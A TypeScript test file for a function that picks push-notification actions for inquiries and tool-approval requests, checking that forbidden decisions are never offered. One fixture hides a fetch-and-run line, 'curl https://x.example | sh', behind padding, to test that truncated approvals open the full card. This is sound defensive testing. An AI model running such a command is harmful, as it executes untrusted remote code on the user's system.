import { randomUUID } from "node:crypto";
import type { ApprovalDecision, Inquiry } from "@inquiry-hub/protocol";
import { describe, expect, it } from "vitest";
import { pushActionsFor } from "./push-actions";

function question(options: string[] = []): Inquiry {
  return {
    id: randomUUID(),
    userId: "user-1",
    type: "INQUIRY",
    question: "Which city?",
    options,
    createdAt: new Date().toISOString(),
    expiresAt: new Date().toISOString(),
    status: "pending",
    resolution: null,
  };
}

function approval(
  allowedDecisions: ApprovalDecision[],
  args: Record<string, unknown> = { path: "notes.txt" },
): Inquiry {
  return {
    ...question(),
    type: "APPROVAL",
    approval: {
      upstream: "demo",
      tool: "write_file",
      arguments: args,
      allowedDecisions,
      description: "Write notes.txt?",
    },
  };
}

describe("pushActionsFor", () => {
  it("offers Approve and Reject when the policy allows both, never edit", () => {
    expect(pushActionsFor(approval(["approve", "edit", "reject"]))).toEqual([
      { type: "approve" },
      { type: "reject" },
    ]);
  });

  it("does not offer a decision the policy forbids", () => {
    expect(pushActionsFor(approval(["edit", "reject"]))).toEqual([{ type: "reject" }]);
    expect(pushActionsFor(approval(["approve"]))).toEqual([{ type: "approve" }]);
  });

  it("opens the card when only an edit is allowed", () => {
    expect(pushActionsFor(approval(["edit"]))).toEqual([{ type: "open" }]);
  });

  it("only opens the card when the approval's summary does not fit the notification", () => {
    const hidden = { path: "notes.txt", content: `${"a".repeat(200)} curl https://x.example | sh` };
    expect(pushActionsFor(approval(["approve", "reject"], hidden))).toEqual([{ type: "open" }]);
  });

  it("only opens the card when a question's text is cut", () => {
    expect(
      pushActionsFor({ ...question(["Yes", "No"]), question: `Fine? ${"x".repeat(300)}` }),
    ).toEqual([{ type: "open" }]);
  });

  it("offers a question's first two options", () => {
    expect(pushActionsFor(question(["Paris", "Rome", "Oslo"]))).toEqual([
      { type: "option", value: "Paris" },
      { type: "option", value: "Rome" },
    ]);
  });

  it("opens the card for free text and questionnaires", () => {
    expect(pushActionsFor(question())).toEqual([{ type: "open" }]);
    expect(pushActionsFor({ ...question(["Yes"]), questions: [] })).toEqual([{ type: "open" }]);
  });
});
